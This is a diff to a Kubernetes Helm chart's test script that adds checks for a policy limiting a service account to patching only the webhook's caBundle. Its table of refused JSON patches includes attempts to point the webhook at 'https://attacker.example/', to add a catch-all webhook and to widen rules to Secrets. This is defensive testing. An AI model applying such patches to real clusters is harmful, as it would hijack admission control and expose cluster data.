@@ -6,7 +6,8 @@
 #   against the registrations in src/ (and against what Prometheus scraped, when
 #   tests/e2e/prometheus.sh ran), every value documented in the README, then
 #   against the e2e apiserver: kubectl apply --dry-run=server -f deploy/, the
-#   admission policies (device plugin on its own node, the annotation guard),
+#   admission policies (device plugin on its own node, the annotation guard, the webhook
+#   caBundle guard: the extender's service account may patch only the caBundle),
 #   examples/kueue/ against Kueue's CRDs (fetched as a Go module, not built),
 #   the certgen hook script creating a Secret and patching a webhook's caBundle,
 #   accelpool-keys rotating a key Secret as the rotation CronJob's service account,
@@ -433,6 +434,20 @@ schema_table() {
 check "RBAC: no wildcard in any rule, no Secret read without its name" \
   python3 "${SEC}" rbac "${TMP}/default.yaml"
 check "values.schema.json refuses bad values at render/install time, naming the value (11 cases)" schema_table
+ca_guard_rendered() { # the webhook-ca policy with the built-in certificate (one or two webhooks); none
+  # with cert-manager (no patch grant), without the webhook, or with caBundleGuard.enabled=false
+  local a
+  python3 "${SEC}" ca-bundle-guard "${TMP}/default.yaml" t ns &&
+    python3 "${SEC}" ca-bundle-guard "${TMP}/host-pods-guard.yaml" t ns &&
+    python3 "${SEC}" ca-bundle-guard "${TMP}/crds.yaml" t ns absent || return 1
+  for a in webhook.enabled=false caBundleGuard.enabled=false; do
+    render --set "${a}" > "${TMP}/no-ca-guard.yaml" &&
+      python3 "${SEC}" ca-bundle-guard "${TMP}/no-ca-guard.yaml" t ns absent || { echo "with ${a}"; return 1; }
+  done
+}
+render --set webhook.hostPods.route=true > "${TMP}/host-pods-guard.yaml"
+check "caBundleGuard: a policy holds the extender's and certgen's patches of the webhook configuration to its caBundles (none with cert-manager, without the webhook, or off)" \
+  ca_guard_rendered
 viewer_role() { # read-only nodes, pods and namespaces, an explained pod's claims, volumes and classes, and what could serve a waiting claim, for kubectl accelpool's users; off: none
   local role rules
   role="$(awk '/^---/ {p=0} /^  name: t-accelpool-viewer$/ {p=1} p' "${TMP}/default.yaml")"
@@ -1081,6 +1096,82 @@ ca_bundle_rendered() { # on upgrades and rollbacks the chart renders the caBundl
     "${K}" apply --dry-run=server -f "${TMP}/webhook-lookup.yaml" >/dev/null
 }
 check "with the TLS Secret present, the webhook renders with its caBundle (lookup)" ca_bundle_rendered
+# The caBundle guard (templates/webhook-ca-guard.yaml): the scheduler pod's service account, which
+# RBAC lets patch the chart's webhook configuration (the rules applied above), may write the
+# webhooks' caBundle and change nothing else of it. The webhook is the chart's own, rendered; its
+# service is not called (failurePolicy Ignore, and it is deleted before the HA checks below, which
+# make their own and have the extender write its caBundle through this policy).
+"${HELM}" template accelpool "${CHART}" --namespace accelpool-system --kube-version v1.37.2 \
+  --set webhook.hostPods.route=true --set-string 'webhook.hostPods.objectSelector.matchLabels.accelpool\.io/never=true' \
+  --show-only templates/webhook.yaml --show-only templates/webhook-ca-guard.yaml > "${TMP}/ca-guard.yaml"
+check "the webhook (two entries) and its caBundle guard apply" "${K}" apply -f "${TMP}/ca-guard.yaml"
+ca_guarded() { # command... : must fail, naming the guard's rule
+  local out
+  if out="$("$@" 2>&1)"; then echo "allowed: ${out}"; return 1; fi
+  grep -q "may change only webhooks\[\*\].clientConfig.caBundle" <<<"${out}" ||
+    { echo "refused for another reason: ${out}"; return 1; }
+}
+as_extender_patch() { as_scheduler patch mutatingwebhookconfiguration accelpool-webhook --type=json -p "$1"; }
+for _ in $(seq 1 40); do
+  ca_guarded as_scheduler patch mutatingwebhookconfiguration accelpool-webhook --dry-run=server --type=json \
+    -p '[{"op":"replace","path":"/webhooks/0/timeoutSeconds","value":7}]' >/dev/null && break
+  sleep 0.5
+done
+CA_B64="$(printf 'not a CA, only bytes' | base64 -w0)"
+ca_guard_writes() { # the extender's own patch: test the resourceVersion, add each webhook's caBundle
+  local rv
+  rv="$("${K}" get mutatingwebhookconfiguration accelpool-webhook -o jsonpath='{.metadata.resourceVersion}')"
+  as_extender_patch "[{\"op\":\"test\",\"path\":\"/metadata/resourceVersion\",\"value\":\"${rv}\"},
+    {\"op\":\"add\",\"path\":\"/webhooks/0/clientConfig/caBundle\",\"value\":\"${CA_B64}\"},
+    {\"op\":\"add\",\"path\":\"/webhooks/1/clientConfig/caBundle\",\"value\":\"${CA_B64}\"}]" >/dev/null &&
+    [ "$("${K}" get mutatingwebhookconfiguration accelpool-webhook -o jsonpath='{.webhooks[*].clientConfig.caBundle}')" = "${CA_B64} ${CA_B64}" ]
+}
+check "the extender's service account may write the webhooks' caBundle (its JSON patch)" ca_guard_writes
+ca_guard_table() { # each patch the extender's service account might try, refused
+  local rc=0 p
+  while read -r p; do
+    [ -z "${p}" ] && continue
+    ca_guarded as_extender_patch "${p}" >/dev/null || { echo "patch ${p}:"; ca_guarded as_extender_patch "${p}"; rc=1; }
+  done <<'PATCHES'
+[{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["secrets"]}]
+[{"op":"add","path":"/webhooks/0/rules/-","value":{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["secrets"]}}]
+[{"op":"replace","path":"/webhooks/0/rules/0/operations","value":["CREATE","UPDATE"]}]
+[{"op":"remove","path":"/webhooks/0/objectSelector"}]
+[{"op":"replace","path":"/webhooks/0/objectSelector","value":{}}]
+[{"op":"replace","path":"/webhooks/0/namespaceSelector","value":{}}]
+[{"op":"remove","path":"/webhooks/0/matchConditions"}]
+[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Fail"}]
+[{"op":"replace","path":"/webhooks/0/sideEffects","value":"NoneOnDryRun"}]
+[{"op":"replace","path":"/webhooks/0/timeoutSeconds","value":30}]
+[{"op":"replace","path":"/webhooks/0/admissionReviewVersions","value":["v1","v1beta1"]}]
+[{"op":"replace","path":"/webhooks/0/reinvocationPolicy","value":"IfNeeded"}]
+[{"op":"replace","path":"/webhooks/0/matchPolicy","value":"Exact"}]
+[{"op":"replace","path":"/webhooks/0/clientConfig/service/namespace","value":"default"}]
+[{"op":"replace","path":"/webhooks/0/clientConfig/service/path","value":"/other"}]
+[{"op":"remove","path":"/webhooks/0/clientConfig/service"},{"op":"add","path":"/webhooks/0/clientConfig/url","value":"https://attacker.example/mutate"}]
+[{"op":"replace","path":"/webhooks/1/objectSelector","value":{}}]
+[{"op":"replace","path":"/webhooks/1/name","value":"other.mutate.accelpool.io"}]
+[{"op":"remove","path":"/webhooks/1"}]
+[{"op":"move","from":"/webhooks/1","path":"/webhooks/0"}]
+[{"op":"add","path":"/webhooks/-","value":{"name":"extra.mutate.accelpool.io","admissionReviewVersions":["v1"],"sideEffects":"None","clientConfig":{"url":"https://attacker.example/"},"rules":[{"apiGroups":["*"],"apiVersions":["*"],"operations":["*"],"resources":["*"]}]}}]
+[{"op":"add","path":"/metadata/labels/extra","value":"x"}]
+[{"op":"replace","path":"/metadata/labels/app.kubernetes.io~1managed-by","value":"x"}]
+[{"op":"add","path":"/metadata/annotations","value":{"x":"y"}}]
+[{"op":"add","path":"/metadata/finalizers","value":["example.com/keep"]}]
+PATCHES
+  return "${rc}"
+}
+check "the extender's service account may change nothing else of it: rules, selectors, matchConditions, policies, clientConfig.service/url, webhooks added, removed, renamed or reordered, metadata (25 cases)" \
+  ca_guard_table
+ca_guard_admin() { # Helm, as an admin, still changes the webhook (upgrades); the caBundle stays
+  "${K}" patch mutatingwebhookconfiguration accelpool-webhook --type=json \
+    -p '[{"op":"replace","path":"/webhooks/0/timeoutSeconds","value":7}]' >/dev/null &&
+    [ "$("${K}" get mutatingwebhookconfiguration accelpool-webhook -o jsonpath='{.webhooks[0].timeoutSeconds}')" = 7 ]
+}
+check "an admin (Helm) may still change the webhook configuration" ca_guard_admin
+check "another service account is not held by the guard, and RBAC refuses it" bash -c \
+  "out=\$('${K}' --as system:serviceaccount:default:default patch mutatingwebhookconfiguration accelpool-webhook --type=json -p '[{\"op\":\"replace\",\"path\":\"/webhooks/0/timeoutSeconds\",\"value\":9}]' 2>&1); [ \$? != 0 ] && grep -q 'forbidden: User' <<<\"\${out}\" && ! grep -q caBundle <<<\"\${out}\""
+"${K}" delete mutatingwebhookconfiguration accelpool-webhook >/dev/null
 check "certgen creates the assignment key secret" certgen key --namespace=accelpool-system --secret=key-check
 key_form() { # "signing" names k1; k1 is 64 characters of base64 (48 random bytes)
   [ "$("${K}" -n accelpool-system get secret key-check -o jsonpath='{.data.signing}' | base64 -d)" = k1 ] &&
